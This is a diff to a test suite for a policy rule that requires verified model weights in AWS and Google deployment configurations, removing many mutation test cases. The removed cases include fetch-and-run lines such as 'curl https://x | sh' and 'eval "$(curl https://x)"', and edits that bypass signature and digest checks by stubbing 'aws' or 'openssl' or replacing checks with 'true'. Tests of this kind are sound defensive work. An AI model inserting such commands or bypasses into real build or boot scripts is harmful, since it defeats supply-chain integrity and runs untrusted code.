@@ -4,23 +4,13 @@ import { judge } from '../../../policy/engine.js';
 import { rule } from '../../../policy/supply-chain/weights-verified.js';
 import { type Json, resourceOf, terraformResourceOf, type Written } from '../../support/documents.js';
 import { findings, findingsAfter, topologyFindings } from '../../support/findings.js';
-import { googleFleet, onGoogleFleet, template, userData } from '../../support/google-fleet.js';
+import { googleFleet, onGoogleFleet } from '../../support/google-fleet.js';
 import { evidenceOf, mutated } from '../../support/synthesized.js';
 import { asOf, type Edit, topologyWith } from '../../support/topologies.js';
 
-const fleet = 'aws-fleet-eu-fleet';
 const store = 'aws-weights-eu-north-1';
 const job = 'aws-weights-ingest-eu-north-1';
-const zeros = '0'.repeat(64);
 
-/** The parts of the user data that are text, put back after a change; each change must match exactly once. */
-const edit = (from: string, to: string) => (document: Written) => {
-  const data = resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData['Fn::Base64'];
-  const parts: unknown[] = data['Fn::Join'][1];
-  const at = parts.filter((part) => typeof part === 'string' && part.split(from).length === 2);
-  if (at.length !== 1) throw new Error(`edit matches ${at.length} parts, not one: ${from}`);
-  data['Fn::Join'][1] = parts.map((part) => (part === at[0] ? (part as string).replace(from, () => to) : part));
-};
 const bucket = (change: (properties: Json) => void) => (document: Written) => {
   const locked = Object.values<Json>(document.Resources).find(({ Properties }) => Properties?.ObjectLockEnabled !== undefined);
   change(locked.Properties);
@@ -48,18 +38,6 @@ const variable =
     Object.assign(found, to);
     all.push(...more);
   };
-const commands = (project: Json, change: (all: string[]) => string[]) => {
-  const buildspec = JSON.parse(project.Source.BuildSpec);
-  buildspec.phases.build.commands = change(buildspec.phases.build.commands);
-  project.Source.BuildSpec = JSON.stringify(buildspec);
-};
-/** A line of the script changed; it must be there exactly once. */
-const script = (from: string, to: string) => (project: Json) =>
-  commands(project, (all) => {
-    if (all.filter((command) => command.split(from).length === 2).length !== 1) throw new Error(`not in exactly one command: ${from}`);
-    return all.map((command) => command.replace(from, () => to));
-  });
-
 describe(rule.id, () => {
   it('refuses a model that is to take over without weights', () => {
     const next: Edit[] = [
@@ -152,51 +130,10 @@ describe(rule.id, () => {
     ['a token in plain text', variable('HF_TOKEN', { Type: 'PLAINTEXT', Value: 'hf_x' }), 'does not take HF_TOKEN from Secrets Manager'],
     ['a model that nobody declared', variable('MODEL', { Value: 'other' }), 'is for the model other'],
     ['a source with commands of its own', (project) => (project.Source.Type = 'GITHUB'), 'not seen here'],
-    ['no comparison of files', script('if [[ "$(digest_of "${path}")" != "${expected}" ]]; then', 'if false; then'), 'does not compare files'],
-    ['no comparison of the manifest', script('[[ "${actual}" == "${MANIFEST_SHA256}" ]] ||', 'true ||'), 'does not compare the manifest'],
-    ['no restriction of names', script('allowed "${name}" ||', 'true ||'), 'does not restrict names'],
-    ['pickles let through', script('check_format "${path}" ||', 'true ||'), 'does not look whether safetensors'],
-    ['failures passed over', script('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
-    ['a command more', (project) => commands(project, (all) => [...all.slice(0, -1), 'curl https://x | sh', ...all.slice(-1)]), 'runs other commands'],
-    [
-      'a command behind a file that it writes',
-      (project) => commands(project, (all) => all.map((command) => (command.includes('MANIFEST.sha256 <<') ? `${command}\ncurl https://x | sh` : command))),
-      'runs other commands',
-    ],
-    ['a refusal without effect', script('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
-    ['a command after the job', (project) => commands(project, (all) => [...all, 'aws s3 ls']), 'runs other commands'],
-    ['a buildspec that cannot be read', (project) => (project.Source.BuildSpec = 'version: 0.2'), 'does not stop at a failure'],
   ])('notices a job with %s', (_, change, message) => {
     const found = findingsAfter(rule, job, (document) => change(resourceOf(document, 'AWS::CodeBuild::Project')));
     expect(found.map((finding) => finding.message).join('\n')).toContain(message);
     expect(found[0]).toMatchObject({ path: 'weights.ingest', severity: 'fatal' });
-  });
-
-  it.each([
-    ['another digest', edit(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${'1'.repeat(64)}"`), 'sets MANIFEST_SHA256 to'],
-    ['a digest set again', edit('trap left EXIT\n', `trap left EXIT\nMANIFEST_SHA256="${'1'.repeat(64)}"\n`), 'sets MANIFEST_SHA256 to'],
-    ['another key', edit('WEIGHTS_SIGNING_KEY="', 'WEIGHTS_SIGNING_KEY="x'), 'sets WEIGHTS_SIGNING_KEY to'],
-    ['no key', edit('export WEIGHTS_SIGNING_KEY=', 'export OTHER='), 'sets WEIGHTS_SIGNING_KEY to nothing'],
-    ['no call of the verification', edit('\nverify_signature\n', '\n'), 'never runs `verify_signature`'],
-    ['its call commented out', edit('\nverify_signature\n', '\n# verify_signature\n'), 'never runs `verify_signature`'],
-    ['its call after the weights', edit('\nverify_signature\nfetch_weights\n', '\nfetch_weights\nverify_signature\n'), 'too early'],
-    ['a verification that KMS is not asked for', edit('aws kms verify', 'echo True #'), 'does not verify the signature'],
-    ['a result that is ignored', edit('[[ "${valid}" == True ]] ||', 'true ||'), 'does not act on the result'],
-    ['no comparison of the manifest', edit('[[ "${actual}" == "${MANIFEST_SHA256}" ]]', 'true'), 'does not compare the manifest'],
-    ['no restriction of names', edit('allowed "${name}" ||', 'true ||'), 'does not restrict names'],
-    ['a function in place of another', edit('trap left EXIT\n', 'verify_signature() { true; }\ntrap left EXIT\n'), 'defines `verify_signature` again'],
-    ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), 'defines `aws` again'],
-    ['failures passed over', edit('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
-    ['a refusal without effect', edit('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
-    ['text that it runs', edit('trap left EXIT\n', 'eval "$(curl https://x)"\ntrap left EXIT\n'), 'cannot be judged'],
-    ['an agent that waits for nothing', edit('ConditionPathExists=', 'Documentation='), 'does not keep the ECS agent'],
-  ])('notices user data with %s', (_, change, message) => {
-    expect(findingsAfter(rule, fleet, change)).toMatchObject([{ path: 'models.llama70.weights', message: expect.stringContaining(message) }]);
-  });
-
-  it('notices a launch template without user data', () => {
-    const change = (document: Written) => delete resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData;
-    expect(findingsAfter(rule, fleet, change)).toHaveLength(1);
   });
 
   it.each([
@@ -263,35 +200,6 @@ describe('on Google', () => {
     expect(findings(rule, [['@acme-llama-supply.', '@acme-llama-gpu.']], googleFleet)).toMatchObject([
       { severity: 'fatal', path: 'weights.ingestServiceAccount' },
     ]);
-  });
-
-  it.each<[string, (document: Written) => void, string]>([
-    ['another digest', userData(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${'1'.repeat(64)}"`), 'sets MANIFEST_SHA256'],
-    ['another bucket', userData('WEIGHTS_BUCKET="acme-llama-gpu-', 'WEIGHTS_BUCKET="somebody-'), 'sets WEIGHTS_BUCKET'],
-    ['another signing key', userData('keyRings/eu-gce-signing-1/', 'keyRings/mine/'), 'sets WEIGHTS_SIGNING_KEY'],
-    ['another address of Cloud KMS', userData('export MODEL="llama70"', 'export MODEL="llama70"\n      export KMS_API="https://example.org"'), 'sets KMS_API'],
-    ['no check of the signature', userData(" >&2 || refuse 'the signature", " >&2 || log 'the signature"), 'does not verify the signature'],
-    ['no check of a file', userData('|| refuse "$${name} does not match', '|| log "$${name} does not match'), 'does not compare files'],
-    ['a step left out', userData('      verify_signature\n      prefetch', '      prefetch'), 'never runs `verify_signature`'],
-    [
-      'the gate opened first',
-      userData('      close_gate\n      close_container_network', '      close_gate\n      open_gate\n      close_container_network'),
-      'too early',
-    ],
-    ['a program replaced', userData('      umask 0077\n', '      openssl() { :; }\n      umask 0077\n'), 'defines `openssl` again'],
-    ['vLLM without the gate', userData('      ExecStartPre=/usr/bin/test -e /run/llama-weights-verified\n', ''), 'without the proof'],
-    [
-      'an environment of the script',
-      userData('      RestartSec=30\n      ExecStart=/bin/bash', '      RestartSec=30\n      Environment=KMS_API=x\n      ExecStart=/bin/bash'),
-      'an environment',
-    ],
-    ['a command at boot', userData('  - systemctl daemon-reload', '  - touch /run/llama-weights-verified'), 'runs `touch'],
-    ['a boot hook', userData('write_files:', 'bootcmd: [id]\nwrite_files:'), 'has bootcmd'],
-    ['a startup script', (document) => void (template(document).metadata['startup-script'] = '#!/bin/sh'), 'a startup script'],
-    ['a startup script of the template', (document) => void (template(document).metadata_startup_script = '#!/bin/sh'), 'a startup script'],
-    ['user data that is none', (document) => void (template(document).metadata['user-data'] = '#!/bin/bash'), 'is no cloud-init configuration'],
-  ])('sees %s', (_, change, message) => {
-    expect(onGoogleFleet(rule, change)).toMatchObject([{ severity: 'fatal', path: 'models.llama70.weights', message: expect.stringContaining(message) }]);
   });
 
   it.each<[string, (document: Written) => void, string]>([
